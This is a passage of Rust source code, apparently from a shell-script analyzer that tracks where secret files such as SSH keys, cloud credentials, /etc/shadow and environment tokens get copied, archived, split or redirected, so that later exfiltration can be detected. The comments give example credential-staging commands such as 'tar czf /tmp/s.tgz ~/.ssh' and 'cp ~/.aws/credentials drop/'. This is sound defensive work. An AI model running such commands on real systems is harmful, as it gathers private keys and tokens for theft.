    }
    staged.iter().any(|c| {
        let c = c.strip_prefix("./").unwrap_or(c);
        c == p
            || (p == "." && !c.starts_with(['/', '~', '$']))
            || c.strip_prefix(p).is_some_and(|rest| rest.starts_with('/'))
    })
}

/// `/etc/ssh` packed whole: the machine's private host keys are in it.
fn holds_host_keys(path: &str) -> bool {
    path.trim_end_matches('/') == "/etc/ssh"
}

/// The paths tar's member operands name: a relative member joined to the `-C`/`--directory` given
/// before it (`tar -C /etc -c shadow` reads /etc/shadow, `tar czf x.tgz -C /tmp .c` packs /tmp/.c).
fn archive_member_paths(cmd: &Command) -> Vec<String> {
    if !matches!(cmd.name(), "tar" | "gtar" | "bsdtar") {
        return Vec::new();
    }
    let args = cmd.args();
    let mut dir: Option<&str> = None;
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        if matches!(t, "-C" | "--directory" | "--cd") {
            dir = args.get(i + 1).map(|w| w.text.as_str());
            i += 2;
            continue;
        }
        if let Some(d) = t
            .strip_prefix("--directory=")
            .or_else(|| t.strip_prefix("-C"))
            .filter(|d| !d.is_empty())
        {
            dir = Some(d);
        } else if let Some(d) = dir.filter(|_| i > 0 && !t.starts_with(['-', '/', '~', '$'])) {
            out.push(crate::shell::state::resolve(d, t));
        }
        i += 1;
    }
    out
}

/// Paths that hold a copy of a secret file by the time later commands run: the destination of
/// `cp|mv|install SECRET DEST`, and files a secret-reading command writes with `>`/`>>`.
fn secret_copies(script: &Script) -> std::collections::HashSet<String> {
    let mut out = std::collections::HashSet::new();
    for cmd in &script.commands {
        let copy_args = match cmd.name() {
            "cp" | "mv" | "install" | "ln" | "rsync" | "ditto" | "scp" => Some(cmd.args()),
            // `docker cp web:/app/.env /tmp/e`, `kubectl cp pod:/root/.aws/credentials c`.
            "docker" | "podman" | "nerdctl" | "kubectl" | "oc"
                if cmd.args().first().is_some_and(|a| a.text == "cp") =>
            {
                Some(&cmd.args()[1..])
            }
            _ => None,
        };
        if let Some(args) = copy_args {
            let positional: Vec<&Word> = args.iter().filter(|a| !a.text.starts_with('-')).collect();
            if let Some((dest, sources)) = positional.split_last() {
                let template = |t: &str| {
                    [
                        ".example",
                        ".sample",
                        ".template",
                        ".dist",
                        ".tpl",
                        ".defaults",
                    ]
                    .iter()
                    .any(|x| t.ends_with(x))
                };
                // `scp host:.aws/credentials /tmp/c`: a secret fetched from another host.
                let local = |t: &str| -> String {
                    match t.split_once(':') {
                        Some((host, path))
                            if !host.is_empty() && !host.contains('/') && !path.is_empty() =>
                        {
                            if path.starts_with(['/', '~']) {
                                path.to_string()
                            } else {
                                format!("~/{path}")
                            }
                        }
                        _ => t.to_string(),
                    }
                };
                if sources.iter().any(|a| {
                    let path = local(&a.text);
                    (is_secret_path(&path) && !template(&path)) || out.contains(&a.text)
                }) && !is_remote_target(&dest.text)
                {
                    out.insert(dest.text.clone());
                    // `cp ~/.aws/credentials drop/` copies into the directory.
                    for src in sources {
                        if let Some(base) = src.text.rsplit('/').next() {
                            out.insert(format!("{}/{base}", dest.text.trim_end_matches('/')));
                        }
                    }
                }
            }
        }
        staged_by_writer(script, cmd, &mut out);
        // An archive of secrets written to a file (`tar czf /tmp/s.tgz ~/.ssh`, `zip -r k.zip
        // ~/.gnupg`, `7z a c.7z ~/.config/gcloud`).
        if let Some(archive) = archive_of_secrets(cmd, &out) {
            out.insert(archive);
        }
        // `bw export --output /tmp/v.json`: a credential printer writing its own output file.
        if credential_printer(cmd.name(), cmd.args()).is_some() {
            let args = cmd.args();
            for (i, a) in args.iter().enumerate() {
                let t = a.text.as_str();
                if matches!(
                    t,
                    "--output" | "-o" | "--out-file" | "--output-file" | "--out"
                ) {
                    if let Some(v) = args.get(i + 1).filter(|v| !is_output_format(&v.text)) {
                        out.insert(v.text.clone());
                    }
                } else if let Some(v) = t.strip_prefix("--output=").filter(|v| !is_output_format(v))
                {
                    out.insert(v.to_string());
                }
            }
        }
        // `openssl enc -in ~/.aws/credentials -out /tmp/c.enc`, `gpg -o k.gpg -c ~/.ssh/id_rsa`:
        // a reader of a secret writing its own output file.
        let args = cmd.args();
        let outputs: Vec<&Word> = args
            .windows(2)
            .filter(|w| matches!(w[0].text.as_str(), "-out" | "-o" | "--output" | "--out"))
            .map(|w| &w[1])
            .filter(|v| !is_output_format(&v.text))
            .collect();
        let redirected = cmd.redirects.iter().any(|r| r.writes());
        if outputs.is_empty() && !redirected {
            continue;
        }
        let source = command_source(script, cmd);
        if source
            .as_ref()
            .is_some_and(|(kind, _)| *kind > Secret::Variable)
        {
            out.extend(outputs.iter().map(|w| w.text.clone()));
        }
        if !redirected {
            continue;
        }
        // A secret variable written to a file (`echo "$GITHUB_TOKEN" > token.txt`).
        let reads = source.is_some_and(|(kind, _)| {
            kind > Secret::Variable
                || (kind == Secret::Variable
                    && matches!(cmd.name(), "echo" | "printf" | "printenv"))
        });
        if reads || piped_secret(script, cmd) {
            for r in cmd.redirects.iter().filter(|r| r.writes()) {
                out.insert(r.target.text.clone());
                // Also by where it is after a `cd` (`cd ~/.aws; cat credentials > ../.cache/x`).
                if let Some(dir) = cmd.cwd.as_deref() {
                    out.insert(crate::shell::state::resolve(dir, &r.target.text));
                }
            }
        }
    }
    // `./notes.md` and `notes.md` are one file.
    let relative: Vec<String> = out
        .iter()
        .filter(|p| !p.starts_with(['/', '~', '$']))
        .map(|p| match p.strip_prefix("./") {
            Some(bare) => bare.to_string(),
            None => format!("./{p}"),
        })
        .collect();
    out.extend(relative);
    out
}

/// A stage before this command's in its pipeline reads a secret file or the environment.
fn piped_secret(script: &Script, cmd: &Command) -> bool {
    cmd.pipes.last().is_some_and(|p| {
        (0..p.stage).any(|st| {
            script
                .stage(p.pipeline, st)
                .any(|c| command_source(script, c).is_some_and(|(k, _)| k > Secret::Variable))
        })
    })
}

/// Files that writers naming their outputs in their arguments fill with a secret: `tee FILE…`
/// fed a secret, `dd if=SECRET of=FILE`, `split SECRET PREFIX` (its pieces), and compressors
/// working in place (`gzip /tmp/k` leaves `/tmp/k.gz`).
fn staged_by_writer(script: &Script, cmd: &Command, out: &mut std::collections::HashSet<String>) {
    let secret =
        |t: &str, out: &std::collections::HashSet<String>| is_secret_path(t) || out.contains(t);
    let positional = || cmd.args().iter().filter(|a| !a.text.starts_with('-'));
    match cmd.name() {
        "tee" => {
            let fed = command_source(script, cmd).is_some_and(|(k, _)| k > Secret::Variable)
                || piped_secret(script, cmd)
                || cmd
                    .redirects
                    .iter()
                    .any(|r| r.op == "<" && secret(&r.target.text, out));
            if fed {
                let files: Vec<String> = positional().map(|a| a.text.clone()).collect();
                out.extend(files);
            }
        }
        "dd" => {
            let operand = |key: &str| {
                cmd.args()
                    .iter()
                    .find_map(|a| a.text.strip_prefix(key).map(str::to_string))
            };
            if let (Some(input), Some(output)) = (operand("if="), operand("of=")) {
                if secret(&input, out) {
                    out.insert(output);
                }
            }
        }
        "split" | "csplit" => {
            // Operands, not the values of `-b 500`, `-l 10`, `-n 4`, `-a 3`.
            let args = cmd.args();
            let files: Vec<&Word> = args
                .iter()
                .enumerate()
                .filter(|(i, a)| {
                    let value_of = *i > 0
                        && matches!(
                            args[i - 1].text.as_str(),
                            "-b" | "-l"
                                | "-n"
                                | "-C"
                                | "-a"
                                | "-t"
                                | "--bytes"
                                | "--lines"
                                | "--number"
                                | "--line-bytes"
                                | "--suffix-length"
                                | "--separator"
                                | "--additional-suffix"
                        );
                    !a.text.starts_with('-') && !value_of
                })
                .map(|(_, a)| a)
                .collect();
            if files.first().is_some_and(|a| secret(&a.text, out)) {
                let prefix = files
                    .get(if cmd.name() == "split" { 1 } else { 2 })
                    .map_or("x", |a| a.text.as_str())
                    .to_string();
                out.insert(format!("{prefix}*"));
                out.insert(prefix);
            }
        }
        "gzip" | "bzip2" | "xz" | "zstd" | "lz4" | "lzma" => {
            let to_stdout = cmd.args().iter().any(|a| {
                matches!(a.text.as_str(), "-c" | "--stdout" | "-d" | "--decompress")
                    || (a.text.starts_with('-')
                        && !a.text.starts_with("--")
                        && a.text.contains(['c', 'd']))
            });
            let ext = match cmd.name() {
                "gzip" => "gz",
                "bzip2" => "bz2",
                "zstd" => "zst",
                "lzma" => "lzma",
                other => other,
            };
            if !to_stdout {
                let files: Vec<String> = positional()
                    .filter(|a| secret(&a.text, out))
                    .map(|a| format!("{}.{ext}", a.text))
                    .collect();
                out.extend(files);
            }
        }
        _ => {}
    }
}

/// Secrets produced by the stages of each pipeline, as running maxima (built once per pipeline,
/// so long pipelines stay linear).
#[derive(Default)]
struct Upstream {
    prefix: std::collections::HashMap<usize, Vec<Option<(Secret, String)>>>,
}

impl Upstream {
    /// The strongest secret produced by a stage before the command's own.
    fn before(&mut self, script: &Script, _idx: usize, cmd: &Command) -> Option<(Secret, String)> {
        let pos = cmd.pipes.last()?;
        let prefix = self.prefix.entry(pos.pipeline).or_insert_with(|| {
            let stages = script.pipelines[pos.pipeline].stages;
            let mut best: Option<(Secret, String)> = None;
            let mut out = Vec::with_capacity(stages + 1);
            out.push(None);
            for s in 0..stages {
                for c in script.stage(pos.pipeline, s) {
                    if let Some(found) = command_source(script, c) {
                        if best.as_ref().is_none_or(|b| found.0 > b.0) {
                            best = Some(found);
                        }
                    }
                }
                out.push(best.clone());
            }
            out
        });
        prefix.get(pos.stage).cloned().flatten()
    }
}

fn pipeline_span(script: &Script, cmd: &Command) -> (usize, usize) {
    cmd.pipes
        .first()
        .and_then(|p| script.pipelines.get(p.pipeline))
        .map(|p| p.span)
        .unwrap_or(cmd.span)
}

/// `kubectl get secrets -o name`, `aws … --output json`: the value of `-o` is an output format,
/// not a file.
fn is_output_format(v: &str) -> bool {
    matches!(
        v,
        "name" | "json" | "yaml" | "yml" | "wide" | "text" | "table" | "tsv" | "csv"
    ) || v.contains('=')
}
